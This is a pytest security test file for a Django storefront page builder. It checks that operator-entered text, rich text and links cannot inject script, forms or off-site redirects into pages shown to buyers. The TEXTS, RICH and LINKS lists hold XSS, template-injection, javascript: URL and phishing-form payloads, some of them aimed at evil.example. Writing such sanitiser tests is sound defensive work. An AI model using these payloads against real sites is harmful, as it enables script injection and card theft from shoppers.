"""Attacks on every field of every section: what an operator types is words, never markup or script.

Each text, rich text and link of each section is filled with what runs, pretends or leaves; the page
that buyers get is parsed and must hold none of it.
"""

from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from typing import Any

import pytest
from django.test import Client

from kameng.core import clock
from kameng.pages.content import check_content, tidy
from kameng.pages.drawing import draw_content
from kameng.pages.fields import Field, Props, complete
from kameng.pages.models import PageKind
from kameng.pages.registry import Section, all_sections, preview_section
from kameng.tenancy.models import Site
from kameng.tenancy.selectors import SiteView, site_scope

MARK = "attacked"
TEXTS = [
    f'"><script>{MARK}()</script>',
    f"'><img src=x onerror={MARK}()>",
    f"</textarea></title><svg onload={MARK}()>",
    f"{{{{ 7*7 }}}}{{% load {MARK} %}}",
    f'" autofocus onfocus="{MARK}()" style="position:fixed;inset:0',
]
RICH = [
    f'<form action="https://evil.example/{MARK}"><input name="card"><button>付款</button></form>',
    f'<p style="position:fixed;inset:0;z-index:9999" onclick="{MARK}()">支付</p>',
    f'<a href="javascript:{MARK}()">a</a><a href="data:text/html,{MARK}">b</a>',
    f'<a href="//evil.example/{MARK}">c</a><a href="\\\\evil.example">d</a>',
    f'<a href=" jav&#x09;ascript:{MARK}()">e</a><a href="vbscript:{MARK}">f</a>',
    f'<div class="pay-card" id="pay-form">{MARK}</div><label for="x">密码</label>',
    f'<img src="https://evil.example/{MARK}.png"><video autoplay src=x></video>',
    f"<style>.{MARK}{{position:fixed}}</style><link rel=stylesheet href=//evil.example>",
    f'<meta http-equiv=refresh content="0;url=https://evil.example/{MARK}"><base href=//e.example>',
    f"<math><mi xlink:href='javascript:{MARK}()'>x</mi></math><template><script>{MARK}</script>",
]
LINKS = [
    "javascript:attacked()",
    "JaVaScRiPt:attacked()",
    "data:text/html,<script>attacked()</script>",
    "//evil.example/pay/",
    "/\\evil.example",
    "\\\\evil.example",
    "http://evil.example",
    "https:evil.example",
    "https://user@evil.example\\@star.example",
    " https://evil.example",
    "https://",
    "ftp://evil.example",
]
NO_TAGS = {
    "script",
    "form",
    "iframe",
    "object",
    "embed",
    "style",
    "link",
    "meta",
    "base",
    "textarea",
}
OWN_FORMS = {"search_box"}  # the shop's own search
FRAMES = {"video"}  # players of known hosts


class Reader(HTMLParser):
    """Every tag with its attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def fill(fields: tuple[Field, ...], props: Props, kind: str, value: Any) -> Props:
    """Return props with every field of a kind, in lists too, set to a value."""
    filled = dict(props)
    for field in fields:
        if field.kind == kind:
            filled[field.name] = value
        elif field.kind == "items":
            items = filled[field.name] or [complete(field.fields, {})]
            filled[field.name] = [fill(field.fields, item, kind, value) for item in items]
    return filled


def has(fields: tuple[Field, ...], kind: str) -> bool:
    """Tell whether there is a field of a kind."""
    return any(
        field.kind == kind or (field.kind == "items" and has(field.fields, kind))
        for field in fields
    )


def cases(kinds: tuple[str, ...]) -> Iterator[tuple[Section, str]]:
    """Yield each section with each kind of field that it has."""
    for section in all_sections().values():
        for kind in kinds:
            if has(section.all_fields, kind):
                yield section, kind


def draw(
    view: SiteView, section: Section, kind: str, value: Any
) -> list[tuple[str, dict[str, str]]]:
    """Return the tags of a section whose fields of a kind hold a value."""
    made = preview_section(section)
    props = complete(section.all_fields, made["props"])
    made["props"] = fill(section.all_fields, props, kind, value)
    page = PageKind.HOME if section.stands_on(PageKind.HOME) else PageKind.LOOK
    with site_scope(view.site_id):
        shown = tidy({"root": {}, "sections": [made]}, kind=page)
        reader = Reader()
        reader.feed(str(draw_content(shown, site=view, now=clock.now())))
    return reader.tags


def check_tags(section: Section, tags: list[tuple[str, dict[str, str]]]) -> None:
    """Nothing runs, pretends to be the pay page, or leaves unannounced."""
    for tag, attributes in tags:
        if not (section.type in OWN_FORMS and tag in {"form", "input"}):
            assert tag not in NO_TAGS | {"input", "select"} or section.type in FRAMES, tag
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in {"style", "srcdoc", "formaction"}, (tag, name)
            plain = value.strip().lower()
            if name in {"href", "src", "action"} and section.type not in FRAMES:
                assert plain.startswith(("/", "#")), (tag, name, value)
                assert not plain.startswith(("//", "/\\")), (tag, name, value)
            if section.type == "search_box" and plain.startswith("/search/?q="):
                assert not set(plain) & set("<>\"' ")  # words to look for, quoted
                continue
            assert MARK not in value or name in {"alt", "title", "aria-label", "placeholder"}, (
                tag,
                name,
                value,
            )
        assert attributes.get("id", "s-preview") != "pay-form"
        assert "pay-card" not in attributes.get("class", "")


@pytest.mark.parametrize("attack", TEXTS)
@pytest.mark.parametrize(
    ("section", "kind"),
    [pytest.param(*case, id=f"{case[0].type}-{case[1]}") for case in cases(("text", "lines"))],
)
def test_a_text_is_words(view: SiteView, section: Section, kind: str, attack: str) -> None:
    check_tags(section, draw(view, section, kind, attack))


@pytest.mark.parametrize("attack", RICH)
@pytest.mark.parametrize(
    "section", [pytest.param(each, id=each.type) for each, _kind in cases(("rich",))]
)
def test_a_rich_text_keeps_words_only(view: SiteView, section: Section, attack: str) -> None:
    check_tags(section, draw(view, section, "rich", attack))


@pytest.mark.parametrize("url", LINKS)
@pytest.mark.parametrize(
    "section", [pytest.param(each, id=each.type) for each, _kind in cases(("link",))]
)
def test_a_link_that_leads_astray_is_not_drawn_and_not_published(
    view: SiteView, section: Section, url: str
) -> None:
    link = {"to": "url", "id": 0, "url": url}

    check_tags(section, draw(view, section, "link", link))

    made = preview_section(section)
    made["props"] = fill(
        section.all_fields, complete(section.all_fields, made["props"]), "link", link
    )
    page = PageKind.HOME if section.stands_on(PageKind.HOME) else PageKind.LOOK
    faults = check_content(tidy({"root": {}, "sections": [made]}, kind=page), kind=page)
    assert any("https://" in fault.message for fault in faults)


def test_a_link_out_of_the_shop_leads_over_the_page_that_says_so(view: SiteView) -> None:
    section = all_sections()["rich_text"]
    text = '<p><a href="https://pay.example/?a=1&amp;b=2">外面</a> <a href="/s/">店里</a></p>'

    tags = draw(view, section, "rich", text)

    links = [attributes["href"] for tag, attributes in tags if tag == "a"]
    assert links == ["/leaving/?to=https%3A%2F%2Fpay.example%2F%3Fa%3D1%26b%3D2", "/s/"]


def test_the_page_before_leaving_shows_where_it_leads(
    site_a: Site, client_for: Callable[..., Client]
) -> None:
    buyer = client_for(site_a)

    shown = buyer.get("/leaving/", {"to": "https://аpple.com/pay"})
    hidden = buyer.get("/leaving/", {"to": "https://apple.com@evil.example/"})

    assert "https://xn--pple-43d.com/pay" in shown.content.decode()
    assert "аpple" not in shown.content.decode()
    assert hidden.status_code == 404
